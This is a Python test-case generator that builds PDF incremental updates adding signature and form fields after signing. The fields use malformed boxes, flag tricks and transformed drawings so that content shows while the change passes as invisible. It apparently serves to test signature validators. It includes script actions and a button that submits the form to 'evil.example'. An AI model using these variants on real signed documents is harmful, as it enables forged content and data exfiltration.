"""New fields for signatures that pass for invisible ones, and other new fields (ISO 32000-2, 12.5.3, 12.5.5 and 12.7)."""

from .contract import SECOND
from .material import COVER, NEXT, NO_TIME_STAMP, SCRIPT, drawing, field
from .registry import Extent, register
from .signed import NEW, Signed, grown

BIG = b"40 290 390 330"
LOOK = b"/AP << /N 201 0 R >>"


def signature(entries: bytes = LOOK, box: bytes = BIG, flags: int = 132, drawn: bytes = COVER, more=None):
    """An empty field for a signature that shows something."""
    return lambda it: it.update(it.fielded(field(b"Sig", b"(Second)", entries, box, flags), {NEXT: drawn} | (more or {})))


BOXES = {
    "five numbers": BIG + b" 0", "six numbers": BIG + b" 0 0", "corners exchanged": b"390 330 40 290",
    "one corner exchanged": b"390 290 40 330",
    "fractions": b"40.5 290.25 390.0 330.", "signs": b"+40 +290 +390 +330", "numbers elsewhere": b"210 0 R 290 390 330",
    "corners elsewhere": b"40 290 211 0 R 212 0 R", "three numbers": b"40 290 390", "strings": b"(40) (290) (390) (330)",
    "names": b"/40 /290 /390 /330",
    "null first": b"null 290 390 330", "leading zeros": b"0040 00290 0390 0330", "numbers below zero": b"-40 -290 390 330",
    "no area but a number behind": b"0 0 0 0 400",
    "exponents": b"4e1 290 39e1 330", "a line": b"40 290 390 290", "a line upright": b"40 290 40 330", "a dot": b"40 290 40.01 290.01",
    "a hair": b"40 290 390 290.5", "beyond the page": b"-900 -900 900 900", "huge numbers": b"0 0 99999999999 99999999999",
    "nested": b"[40 290 390 330]",
}
STAMP = {NEW + 30: NO_TIME_STAMP}
NUMBERS = {NEW + 10: b"40", NEW + 11: b"390", NEW + 12: b"330"}
#: Those that no reader shows anything in, whatever it makes of them.
EMPTY = ("a line", "a line upright", "a dot", "three numbers", "strings", "names", "nested", "no area but a number behind")
register("new signature field", Extent.ANNOTATION, {
    f"signature field with a box of {name}": signature(box=BOXES[name], more=NUMBERS) for name in BOXES if name not in EMPTY
} | {
    "signature field with a box elsewhere": lambda it: it.update(it.fielded(
        field(b"Sig", b"(Second)", LOOK).replace(b"[0 0 0 0]", b"210 0 R"), {NEXT: COVER, NEW + 10: b"[40 290 390 330]"})),
    "signature field with two boxes": lambda it: it.update(it.fielded(
        field(b"Sig", b"(Second)", b"/Rect [40 290 390 330] " + LOOK), {NEXT: COVER})),
    "signature field with two boxes, the other way": lambda it: it.update(it.fielded(
        field(b"Sig", b"(Second)", b"/Rect [0 0 0 0] " + LOOK, BIG), {NEXT: COVER})),
    "signature field with a box of an escaped name": lambda it: it.update(it.fielded(
        field(b"Sig", b"(Second)", b"/Re#63t [40 290 390 330] " + LOOK), {NEXT: COVER})),
    "time stamp's field that shows": signature(b"/V 230 0 R " + LOOK, more=STAMP),
    "time stamp's field that is its own kid": signature(b"/V 230 0 R /Kids [200 0 R] " + LOOK, more=STAMP),
    "time stamp's field with a box of five numbers": signature(b"/V 230 0 R " + LOOK, BIG + b" 0", more=STAMP),
    "time stamp's field with a box of five numbers that is its own kid": signature(b"/V 230 0 R /Kids [200 0 R] " + LOOK, BIG + b" 0", more=STAMP),
    "time stamp's field with an action": signature(b"/V 230 0 R /AA << /PO %s >>" % SCRIPT, b"0 0 0 0", more=STAMP),
    "signature field with a border": signature(LOOK + b" /Border [0 0 40] /MK << /BC [0] /BG [0] >>"),
    "signature field without an appearance, with a background": signature(b"/MK << /BG [1] /BC [0] >>"),
    "signature field on two pages": lambda it: it.update(it.fielded(field(b"Sig", b"(Second)", LOOK, BIG), {
        NEXT: COVER, SECOND: it.put(SECOND, Annots=grown(it.get(SECOND, "Annots"), b"200 0 R"))})),
    "signature field with a kid that shows": lambda it: it.update(it.annotated(field(
        b"Sig", b"(x)", b"/Parent 203 0 R " + LOOK, BIG), {NEXT: COVER, NEW + 3: b"<< /FT /Sig /T (Second) /Kids [200 0 R] >>"}) | {
            20: it.put(20, Fields=grown(it.get(20, "Fields"), b"203 0 R"))}),
    "signature field with a kid of a kid that shows": lambda it: it.update(it.annotated(field(
        b"Sig", b"(x)", b"/Parent 204 0 R " + LOOK, BIG), {
            NEXT: COVER, NEW + 3: b"<< /FT /Sig /T (Second) /Kids [204 0 R] >>", NEW + 4: b"<< /Parent 203 0 R /T (y) /Kids [200 0 R] >>"}) | {
                20: it.put(20, Fields=grown(it.get(20, "Fields"), b"203 0 R"))}),
    "signature field that only the page lists": lambda it: it.update(it.annotated(field(b"Sig", b"(Second)", LOOK, BIG), {NEXT: COVER})),
    "signature field with an action": lambda it: it.update(it.fielded(field(b"Sig", b"(Second)", b"/AA << /PO %s >>" % SCRIPT, flags=132))),
    "signature field that is a button": lambda it: it.update(it.fielded(
        field(b"Btn", b"(Second)", b"/Ff 65536 " + LOOK, BIG), {NEXT: COVER})),
})
#: Hidden, Print and NoView, and flags that some readers go by and others do not (ISO 32000-2, table 167).
FLAGS = {"none": 0, "not seen": 32, "not seen and invisible": 33, "print": 4, "invisible": 1, "print and invisible": 5, "not zoomed": 8, "not turned": 16,
         "toggled": 256, "locked": 128, "print, not seen": 36, "print, not seen but toggled": 292, "read only": 64, "contents locked": 512, "all that are unknown": 0x7FFFFC00,
         "a number below zero that prints": -35}
register("new signature field", Extent.ANNOTATION, {
    f"signature field with flags {name}": signature(flags=flags) for name, flags in FLAGS.items()
} | {
    "signature field with flags elsewhere": lambda it: it.update(it.fielded(field(
        b"Sig", b"(Second)", LOOK, BIG).replace(b"/F 4", b"/F 210 0 R"), {NEXT: COVER, NEW + 10: b"4"})),
    "signature field with flags that are a fraction": lambda it: it.update(it.fielded(field(
        b"Sig", b"(Second)", LOOK, BIG).replace(b"/F 4", b"/F 2.9"), {NEXT: COVER})),
    "signature field with flags twice": lambda it: it.update(it.fielded(field(
        b"Sig", b"(Second)", LOOK + b" /F 2", BIG), {NEXT: COVER})),
    "signature field with flags that are a string": lambda it: it.update(it.fielded(field(
        b"Sig", b"(Second)", LOOK, BIG).replace(b"/F 4", b"/F (2)"), {NEXT: COVER})),
    "signature field in a layer": lambda it: it.update(it.fielded(field(
        b"Sig", b"(Second)", LOOK + b" /OC 74 0 R", BIG), {NEXT: COVER})),
})


def matrix(entries: bytes, box: bytes = b"0 0 340 40"):
    return drawing(b"0 g 0 0 999 999 re f", b"/Resources << >> " + entries, box)


#: Appearances are fitted into their rectangle (ISO 32000-2, 12.5.5), which some readers do in other ways.
register("new signature field", Extent.ANNOTATION, {
    "signature field in a tiny box with a large drawing": signature(box=b"40 290 41 291", drawn=matrix(b"", b"0 0 1 1")),
    "signature field whose drawing has no box": signature(drawn=matrix(b"", b"0 0 0 0")),
    "signature field whose drawing has a box of five numbers": signature(drawn=matrix(b"", b"0 0 340 40 9")),
    "signature field whose drawing is turned": signature(drawn=matrix(b"/Matrix [0 1 -1 0 0 0]")),
    "signature field whose drawing has no inverse": signature(drawn=matrix(b"/Matrix [0 0 0 0 0 0]")),
    "signature field whose drawing is scaled": signature(box=b"40 290 41 291", drawn=matrix(b"/Matrix [900 0 0 900 0 0]", b"0 0 1 1")),
    "signature field with a state": signature(b"/AS /On /AP << /N << /On 201 0 R >> >>"),
    "signature field with a state that is missing": signature(b"/AP << /N << /On 201 0 R >> >>"),
    "signature field with an appearance when pressed": signature(b"/AP << /D 201 0 R >>"),
})


def added(kind: bytes, entries: bytes = b"", box: bytes = BIG, **options):
    return lambda it: it.update(it.fielded(field(kind, b"(new)", entries + LOOK, box), {NEXT: COVER}, **options))


register("new field", Extent.ANNOTATION, {
    "text field": added(b"Tx", b"/V (999) /DA (0 g /F 9 Tf)"),
    "text field that is full of white": added(b"Tx", b"/MK << /BG [1] >> /DA (0 g /F 9 Tf)"),
    "push button": added(b"Btn", b"/Ff 65536 /A %s" % SCRIPT), "push button that sends the form": added(
        b"Btn", b"/Ff 65536 /A << /S /SubmitForm /F (https://evil.example) >>"),
    "check box": added(b"Btn", b"/V /Yes /AS /Yes"), "choice field": added(b"Ch", b"/Opt [(a)] /V (a)"),
    "field without a type": added(b"Foo"),
    "field of amount's name": lambda it: it.update(it.fielded(field(b"Tx", b"(amount)", b"/V (999) " + LOOK, BIG), {NEXT: COVER})),
    "field of amount's name in front": lambda it: it.update(it.fielded(
        field(b"Tx", b"(amount)", b"/V (999) " + LOOK, BIG), {NEXT: COVER}, front=True)),
    "field that only the form lists": added(b"Tx", b"/V (999) /P 3 0 R ", on=None),
    "field that only the page lists": lambda it: it.update(it.annotated(field(b"Tx", b"(new)", LOOK, BIG), {NEXT: COVER})),
    "kid of the choice": lambda it: it.update(it.annotated(
        b"<< /Type /Annot /Subtype /Widget /Parent 24 0 R /AS /C /F 4 /Rect [40 290 390 330] /AP << /N << /C 201 0 R >> >> >>", {
            NEXT: COVER, 24: it.put(24, Kids=b"[25 0 R 26 0 R 200 0 R]")})),
    "second widget of a field": lambda it: it.update(it.annotated(
        b"<< /Type /Annot /Subtype /Widget /Parent 30 0 R /F 4 /Rect [40 290 390 330] /AP << /N 201 0 R >> >>", {
            NEXT: COVER, 30: it.put(30, Kids=b"[31 0 R 32 0 R 200 0 R]")})),
    "signature field in a second update that grows": lambda it: grown_later(it),
})


def grown_later(it):
    """An invisible field, which later has a size."""
    first = Signed(it.update(it.fielded(field(b"Sig", b"(Second)", b"", flags=132))))
    return first.update({NEW: field(b"Sig", b"(Second)", LOOK, BIG), NEXT: COVER})


register("sound", Extent.FILLING, {
    "sound: new signature field that nothing shows": lambda it: it.update(it.fielded(field(b"Sig", b"(Second)", flags=132))),
    "sound: new signature field that nothing shows, on no page": lambda it: it.update(it.fielded(field(b"Sig", b"(Second)", flags=132), on=None)),
    "sound: new signature field that is hidden": lambda it: it.update(it.fielded(field(b"Sig", b"(Second)", b"", BIG, flags=2))),
}, applies=lambda base: base.level not in ("all", "exclude", "broken"))
